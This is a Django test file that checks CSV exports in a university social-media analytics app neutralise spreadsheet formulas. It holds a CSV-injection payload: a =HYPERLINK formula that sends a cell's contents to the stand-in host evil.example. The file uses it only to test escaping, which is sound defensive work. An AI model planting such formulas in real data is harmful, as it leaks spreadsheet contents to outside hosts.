"""CSV exports never carry a live spreadsheet formula (security review of 2026-12-05).

A staff account owner could name an objective `=HYPERLINK(...)`; the digital team's objectives
export and the monthly report CSV carried it as a formula (the registry export already escaped
it). Every export now writes through `core.csvsafe`."""

from __future__ import annotations

import csv
import io
from datetime import date

from django.urls import reverse

from townhall.analytics import services
from townhall.core import csvsafe
from townhall.registry.models import Account

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A3,"Open the figures")'


def test_the_analytics_exports_escape_formulas(make_user, verified_client, units):
    owner = make_user("staff", units["physics"])
    account = Account.objects.create(
        network="bluesky", handle="physics.example.ac.uk", org_unit=units["physics"], status="active"
    )
    account.owners.add(owner, make_user("staff", units["physics"]))
    today = date.today()
    objective = services.create_objective(
        owner, name=PAYLOAD, metric="contacts", target=10, period_start=today.replace(day=1), period_end=today,
        org_unit=units["physics"], account=account,
    )
    services.record_measurement(owner, objective, day=today, value=3)
    client = verified_client(make_user("digital", units["school"]))
    cells = []
    for url in (
        reverse("analytics:export"),
        reverse("analytics:report") + f"?scope=account:{account.pk}&month={today:%Y-%m}&format=csv",
    ):
        body = client.get(url).content.decode()
        cells += [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + PAYLOAD in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_cells_keep_numbers_and_handles():
    assert csvsafe.cell(-5) == -5 and csvsafe.cell(2.5) == 2.5
    assert csvsafe.cell("@physics.example.ac.uk") == "@physics.example.ac.uk"
    assert csvsafe.cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert csvsafe.cell("-1+1") == "'-1+1" and csvsafe.cell(True) == "yes" and csvsafe.cell(None) == ""
